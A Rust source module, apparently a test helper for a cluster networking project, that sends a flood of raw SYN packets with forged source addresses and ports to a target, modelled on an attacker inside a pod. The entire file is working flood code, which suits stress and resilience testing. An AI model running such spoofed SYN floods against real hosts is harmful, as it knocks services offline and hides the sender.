//! A flood of SYNs with made-up senders, as an attacker in a pod would send it.

use std::{io, net::SocketAddrV4, os::fd::AsRawFd as _};

use clusterip_common::wire::Be16;
use nix::sys::socket::{
    AddressFamily, MsgFlags, SockFlag, SockProtocol, SockType, SockaddrIn, sendto, socket,
};

use crate::packet::tcp;

/// Where the fields stand that change, behind the Ethernet header.
const ETHERNET: usize = 14;
const SOURCE: usize = 14;
const PORT: usize = 20;

/// Sends `count` SYNs to an address, each from another address of 10.200.0.0/16 or port, beginning with the sender of the
/// number `first`. Returns when they are sent.
///
/// # Errors
/// Not root, or the kernel refused a packet for another reason than a full queue.
pub fn syns(to: SocketAddrV4, first: u32, count: u32) -> io::Result<()> {
    let raw = socket(
        AddressFamily::Inet,
        SockType::Raw,
        SockFlag::SOCK_CLOEXEC,
        SockProtocol::Raw,
    )?;
    let frame = tcp("10.200.0.0:1", &to.to_string()).syn().bytes();
    let mut packet = frame.get(ETHERNET..).unwrap_or_default().to_vec();
    let to = SockaddrIn::from(to);
    for number in first..first + count {
        // 65,536 addresses, and as many ports as it takes.
        let (address, port) = (number % 65_536, number / 65_536 + 1);
        for (at, value) in [(SOURCE, address), (PORT, port)] {
            let value = Be16::new(u16::try_from(value).unwrap_or(u16::MAX)).0;
            packet
                .get_mut(at..at + 2)
                .unwrap_or_default()
                .copy_from_slice(&value);
        }
        match sendto(raw.as_raw_fd(), &packet, &to, MsgFlags::empty()) {
            Ok(_) | Err(nix::errno::Errno::ENOBUFS) => {}
            Err(error) => return Err(error.into()),
        }
    }
    Ok(())
}
